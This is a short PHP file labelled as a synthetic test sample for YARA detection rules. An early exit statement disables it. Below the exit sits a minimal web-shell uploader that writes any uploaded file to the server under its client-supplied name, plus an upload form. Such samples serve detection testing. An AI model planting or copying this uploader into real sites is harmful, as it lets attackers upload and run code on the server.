<?php
// Vigil YARA test sample: synthetic; exit comes first, nothing below runs.
exit;
if (!empty($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);
    echo 'ok';
}
?>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>
